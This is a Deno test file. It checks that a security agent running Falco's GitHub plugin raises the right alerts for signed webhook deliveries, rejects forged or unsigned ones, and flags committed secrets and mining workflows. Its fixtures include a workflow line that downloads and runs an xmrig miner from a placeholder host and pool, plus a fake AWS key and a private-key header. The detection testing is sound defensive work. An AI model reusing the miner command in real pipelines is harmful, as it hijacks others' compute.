/**
 * The github plugin live: `saker run` with Falco's plugin entry for github and Falco's GitHub
 * rules (from the reference, unchanged) takes webhook deliveries on the agent's own server over
 * real HTTP on loopback, signed as GitHub signs them (X-Hub-Signature-256, HMAC-SHA256 of the
 * body with the webhook's secret). Each rule fires on a delivery written here after GitHub's
 * documented payloads; pushes are looked up in a GitHub API served by the test on loopback (the
 * commit's patch with an AWS key or a private key in it, or without), workflow runs too (the
 * workflow file with a miner, or without); benign deliveries raise nothing; unsigned and
 * badly signed deliveries are refused with 401 and counted, while the rest of the API keeps its
 * bearer token.
 */
import { assert, assertEquals } from "../support/assert.ts";
import { needsReference, REFERENCE_DIR } from "../support/env.ts";
import { api, metricValue, SakerProcess } from "../support/saker.ts";
import { signature } from "../../src/plugins/github.ts";
import { scanPatch, scanWorkflow } from "../../src/plugins/github_scan.ts";

const RULES = `${REFERENCE_DIR}/falco-plugins/github/github.yaml`;
const SECRET = "e7c1c0f5-webhook-secret";
const TOKEN = "api-token-for-the-test";

const sender = { login: "mallory", id: 4242, type: "User" };
const org = { login: "acme", id: 77 };
function repo(name: string, priv: boolean) {
  return {
    id: 1000 + name.length,
    name,
    full_name: `acme/${name}`,
    private: priv,
    owner: { login: "acme", id: 77, type: "Organization" },
    html_url: `https://github.com/acme/${name}`,
    description: `The ${name} service`,
    default_branch: "main",
  };
}
const hook = { type: "Repository", id: 451230, name: "web", active: true, events: ["*"] };

/** Commits of the test's GitHub API: their files and patches. */
const COMMITS: Record<string, { filename: string; patch: string }[]> = {
  c0ffee01: [{
    filename: "deploy/config.py",
    patch: "@@ -10,3 +10,5 @@ REGION = 'us-east-1'\n BUCKET = 'x'\n-OLD = 1\n+" +
      "AWS_ACCESS_KEY_ID = 'AKIAQWERTYUIOPASDFGH'\n+TIMEOUT = 30\n \n",
  }],
  c0ffee02: [{
    filename: "keys/id_rsa",
    patch: "@@ -0,0 +1,3 @@\n+-----BEGIN RSA PRIVATE KEY-----\n+MIIEowIBAAKCAQEA7\n" +
      "+-----END RSA PRIVATE KEY-----\n",
  }],
  c0ffee03: [{ filename: "README.md", patch: "@@ -1,1 +1,2 @@\n # web\n+More docs.\n" }],
};
const WORKFLOWS: Record<string, string> = {
  "bad1": "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n" +
    "      - run: curl -sL https://x.example/xmrig.tgz | tar xz && ./xmrig -o " +
    "stratum+tcp://pool.example:3333 -u wallet\n",
  "good1": "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n" +
    "      - run: deno task test\n",
};

function push(name: string, priv: boolean, id: string) {
  return {
    ref: "refs/heads/main",
    before: "0000000",
    after: id,
    repository: repo(name, priv),
    organization: org,
    sender,
    pusher: { name: "mallory", email: "m@example.com" },
    commits: [{
      id,
      message: "update",
      added: COMMITS[id][0].patch.startsWith("@@ -0,0") ? [COMMITS[id][0].filename] : [],
      modified: COMMITS[id][0].patch.startsWith("@@ -0,0") ? [] : [COMMITS[id][0].filename],
      removed: [],
    }],
    head_commit: { id, message: "update" },
  };
}

function workflowRun(sha: string) {
  return {
    action: "requested",
    workflow_run: { id: 99, name: "CI", head_sha: sha, path: ".github/workflows/ci.yml" },
    workflow: { id: 7, name: "CI", path: ".github/workflows/ci.yml" },
    repository: repo("web", false),
    organization: org,
    sender,
  };
}

/** [X-GitHub-Event, payload, rules it raises]. */
const DELIVERIES: [string, Record<string, unknown>, string[]][] = [
  ["ping", {
    zen: "Design for failure.",
    hook_id: hook.id,
    hook,
    repository: repo("web", false),
    sender,
  }, [
    "Webhook Connected",
  ]],
  ["meta", { action: "deleted", hook_id: hook.id, hook, repository: repo("web", false), sender }, [
    "Webhook Disconnected",
  ]],
  ["repository", {
    action: "publicized",
    repository: repo("vault", false),
    organization: org,
    sender,
  }, [
    "Private Repository Becoming Public",
  ]],
  ["repository", {
    action: "privatized",
    repository: repo("docs", true),
    organization: org,
    sender,
  }, [
    "Public Repository Becoming Private",
  ]],
  [
    "repository",
    { action: "created", repository: repo("leak", false), organization: org, sender },
    [
      "Create Public Repository",
      "Create Repository",
    ],
  ],
  [
    "repository",
    { action: "deleted", repository: repo("site", false), organization: org, sender },
    [
      "Delete Public Repository",
      "Delete Repository",
    ],
  ],
  ["repository", {
    action: "created",
    repository: repo("internal", true),
    organization: org,
    sender,
  }, [
    "Create Repository",
  ]],
  ["repository", { action: "deleted", repository: repo("old", true), organization: org, sender }, [
    "Delete Repository",
  ]],
  ["deploy_key", {
    action: "created",
    key: { id: 1, title: "ci", read_only: false },
    repository: repo("web", true),
    organization: org,
    sender,
  }, ["Create Deploy Key"]],
  ["deploy_key", {
    action: "deleted",
    key: { id: 1, title: "ci", read_only: false },
    repository: repo("web", true),
    organization: org,
    sender,
  }, ["Delete Deploy Key"]],
  ["member", {
    action: "added",
    member: { login: "outsider", id: 9 },
    changes: { permission: { to: "admin" } },
    repository: repo("web", true),
    organization: org,
    sender,
  }, ["Add Collaborator to Repository"]],
  ["member", {
    action: "removed",
    member: { login: "alice", id: 10 },
    repository: repo("web", true),
    organization: org,
    sender,
  }, ["Remove Collaborator from Repository"]],
  ["push", push("web", false, "c0ffee01"), ["Secret pushed into a public repository"]],
  ["push", push("web", true, "c0ffee02"), ["Secret pushed into a private repository"]],
  ["workflow_run", workflowRun("bad1"), ["Github action with miners"]],
  // Benign.
  ["push", push("web", false, "c0ffee03"), []],
  ["workflow_run", workflowRun("good1"), []],
  ["star", {
    action: "created",
    starred_at: "2024-05-01T10:00:00Z",
    repository: repo("web", false),
    sender,
  }, []],
  [
    "issues",
    { action: "opened", issue: { number: 1 }, repository: repo("web", false), sender },
    [],
  ],
];

/** The GitHub API the plugin asks about pushed commits and workflow files. */
function fakeGithubApi(): { url: string; calls: string[]; close: () => Promise<void> } {
  const calls: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (req) => {
    const u = new URL(req.url);
    calls.push(`${u.pathname}${u.search} ${req.headers.get("authorization") ?? ""}`);
    const commit = /^\/repos\/acme\/web\/commits\/(\w+)$/.exec(u.pathname);
    if (commit && COMMITS[commit[1]]) {
      return Response.json({ sha: commit[1], files: COMMITS[commit[1]] });
    }
    if (u.pathname === "/repos/acme/web/contents/.github/workflows/ci.yml") {
      const text = WORKFLOWS[u.searchParams.get("ref") ?? ""];
      if (text) return Response.json({ encoding: "base64", content: btoa(text) });
    }
    return Response.json({ message: "Not Found" }, { status: 404 });
  });
  const addr = server.addr as Deno.NetAddr;
  return { url: `http://127.0.0.1:${addr.port}`, calls, close: () => server.shutdown() };
}

async function deliver(
  base: string,
  type: string,
  payload: unknown,
  sign: "good" | "bad" | "none" = "good",
): Promise<Response> {
  const body = JSON.stringify(payload);
  const headers: Record<string, string> = {
    "content-type": "application/json",
    "x-github-event": type,
    "x-github-delivery": crypto.randomUUID(),
    "user-agent": "GitHub-Hookshot/abc123",
  };
  if (sign === "good") headers["x-hub-signature-256"] = await signature(SECRET, body);
  if (sign === "bad") headers["x-hub-signature-256"] = await signature("not-the-secret", body);
  return await fetch(`${base}/github`, { method: "POST", headers, body });
}

Deno.test("github: secrets in patches and miners in workflows", () => {
  assertEquals(scanPatch(COMMITS.c0ffee01[0].patch), [{ desc: "aws_access_key", line: 11 }]);
  assertEquals(scanPatch(COMMITS.c0ffee02[0].patch), [{ desc: "asymmetric_private_key", line: 1 }]);
  assertEquals(scanPatch(COMMITS.c0ffee03[0].patch), []);
  // A removed line with a secret is not a committed secret.
  assertEquals(scanPatch("@@ -1,1 +1,0 @@\n-key = 'AKIAQWERTYUIOPASDFGH'\n"), []);
  assertEquals([...new Set(scanWorkflow(WORKFLOWS.bad1).map((m) => m.type))], ["xmrig", "stratum"]);
  assertEquals(scanWorkflow(WORKFLOWS.good1), []);
});

Deno.test({
  name: "saker run: GitHub deliveries on the agent's server, signed, raise Falco's GitHub rules",
  ignore: needsReference(),
  async fn() {
    const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "saker-github-" }));
    const gh = fakeGithubApi();
    const config = `${dir}/config.yaml`;
    await Deno.writeTextFile(
      config,
      `rules_files: [${RULES}]
rule_matching: all
json_output: true
stdout_output: {enabled: true}
alert_store: {enabled: false}
webserver: {listen_port: 0, auth_token: ${TOKEN}, k8s_audit_endpoint: ""}
watch_config_files: false
load_plugins: [github]
plugins:
  - name: github
    library_path: libgithub.so
    init_config:
      webhookSecret: ${SECRET}
      apiURL: ${gh.url}
      useHTTPs: false
      websocketServerURL: http://saker.example.com
    open_params: "acme/web, acme/vault, acme/docs, acme/leak, acme/site, acme/internal, acme/old"
`,
    );
    const agent = SakerProcess.start(["run", "-c", config, "--disable-source", "syscall"], {
      env: { GITHUB_PLUGIN_TOKEN: "ghp-test-token", HOME: dir },
    });
    try {
      const base = await agent.running();
      await agent.waitFor("the webhook", () => /github webhook path=\/github/.test(agent.stderr()));
      // Refused: unsigned, signed with another secret, a repository not watched is ignored.
      const unsigned = await deliver(base, "repository", DELIVERIES[2][1], "none");
      assertEquals(unsigned.status, 401);
      await unsigned.body?.cancel();
      const forged = await deliver(base, "repository", DELIVERIES[2][1], "bad");
      assertEquals(forged.status, 401);
      await forged.body?.cancel();
      const other = await deliver(base, "repository", {
        action: "publicized",
        repository: { ...repo("x", false), full_name: "someone/x" },
        sender,
      });
      assertEquals(other.status, 202);
      await other.body?.cancel();
      // The API keeps its bearer token.
      assertEquals((await api(base, "/metrics")).status, 401);

      for (const [type, payload] of DELIVERIES) {
        const res = await deliver(base, type, payload);
        assertEquals(res.status, 200, `${type}: ${await res.text()}`);
      }
      const want = DELIVERIES.flatMap((d) => d[2]);
      const alerts = await agent.waitFor("every alert", () => {
        const a = agent.jsonLines();
        return a.length >= want.length ? a : undefined;
      });
      await new Promise((r) => setTimeout(r, 300));
      assertEquals(agent.jsonLines().length, want.length, "no alert on benign deliveries");
      assertEquals(alerts.map((a) => a.rule).sort(), [...want].sort());
      assert(alerts.every((a) => a.source === "github"));
      const byRule = (r: string) =>
        alerts.find((a) => a.rule === r)!.output_fields as Record<string, unknown>;
      assertEquals(
        byRule("Secret pushed into a public repository")["github.diff.committed_secrets.desc"],
        "aws_access_key",
      );
      assertEquals(
        byRule("Secret pushed into a public repository")["github.diff.committed_secrets.links"],
        "https://github.com/acme/web/blob/c0ffee01/deploy/config.py#L11",
      );
      assertEquals(
        byRule("Secret pushed into a private repository")["github.diff.committed_secrets.files"],
        "keys/id_rsa",
      );
      assertEquals(
        byRule("Github action with miners")["github.workflow.filename"],
        ".github/workflows/ci.yml",
      );
      assertEquals(byRule("Add Collaborator to Repository")["github.collaborator.role"], "admin");
      assertEquals(byRule("Webhook Connected")["github.webhook.id"], "451230");
      assertEquals(byRule("Private Repository Becoming Public")["github.repo.name"], "acme/vault");
      // The plugin asked the API with the token, for each push and each requested run.
      assertEquals(gh.calls.filter((c) => c.includes("/commits/")).length, 3);
      assertEquals(gh.calls.filter((c) => c.includes("/contents/")).length, 2);
      assert(gh.calls.every((c) => c.endsWith("Bearer ghp-test-token")), gh.calls.join("\n"));
      const metrics = (await api(base, "/metrics", TOKEN)).text;
      assertEquals(metricValue(metrics, /^saker_github_rejected_total\{reason="unsigned"\}/), 1);
      assertEquals(
        metricValue(metrics, /^saker_github_rejected_total\{reason="bad_signature"\}/),
        1,
      );
    } finally {
      const status = await agent.stop();
      await gh.close();
      await Deno.remove(dir, { recursive: true });
      assertEquals(status.code, 0, agent.stderr());
    }
  },
});
